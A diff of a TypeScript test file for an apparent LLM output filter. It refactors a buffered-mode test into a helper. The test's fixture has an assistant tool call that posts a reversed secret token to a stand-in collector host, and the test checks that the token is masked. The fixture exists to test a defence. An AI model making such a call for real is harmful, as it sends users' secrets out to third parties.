@@ -15,10 +15,7 @@ import { buildDetector } from '../../src/detectors/registry.ts';
 import { holdPlan } from '../../src/detectors/hold.ts';
 import { compilePolicy } from '../../src/policy/compile.ts';
 import { detectorCorpus } from '../../bench/lib/payloads.ts';
-import { assemblePipeline } from '../../src/pipeline/index.ts';
-import { MemoryAuditSink } from '../../src/pipeline/evaluate.ts';
-import { MemoryApprovalStore } from '../../src/tools/index.ts';
-import { deltasOf, sse, streamExchange } from './stream-exchange.ts';
+import { bufferedExchange, deltasOf, sse, streamExchange } from './stream-exchange.ts';
 
 const ctx: DetectionContext = { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' };
 const MIXED = 'CANARY-7f3a9b2c';
@@ -239,18 +236,9 @@ test('pipeline, streamed: a token in any form is masked however the answer is ch
 });
 
 test('pipeline, buffered: a token written backwards in a tool call\'s arguments is masked there too', async () => {
-  const p = assemblePipeline({ policies: { current: () => CANARY_POLICY, close() {} }, audit: new MemoryAuditSink(), approvals: new MemoryApprovalStore() });
-  const ex = p.factory.create({ metadata: {}, observability: false, requestBodyMode: 'BUFFERED', responseBodyMode: 'BUFFERED' });
   const req = { model: 'gpt-4o', messages: [{ role: 'user', content: 'Send the report.' }] };
   const args = JSON.stringify({ url: 'https://collector.example/upload', note: `key ${[...WORDS].reverse().join('')}` });
   const res = { id: 'x', object: 'chat.completion', choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'http_post', arguments: args } }] } }] };
-  await ex.requestHeaders([[':method', 'POST'], [':path', '/v1/chat/completions'], [':authority', 'api.openai.com'], ['content-type', 'application/json']], false);
-  assert.equal((await ex.requestBody(Buffer.from(JSON.stringify(req)), true, 'BUFFERED')).kind, 'continue');
-  await ex.responseHeaders([[':status', '200'], ['content-type', 'application/json']], false);
-  const r = await ex.responseBody(Buffer.from(JSON.stringify(res)), true, 'BUFFERED');
-  ex.close('complete');
-  await p.close();
-  assert.equal(r.kind, 'continue');
-  const body = JSON.parse((r as { body: Buffer }).body.toString('utf8')) as typeof res;
+  const body = await bufferedExchange(CANARY_POLICY, req, res);
   assert.deepEqual(JSON.parse(body.choices[0].message.tool_calls[0].function.arguments), { url: 'https://collector.example/upload', note: 'key [CANARY_TOKEN]' });
 });
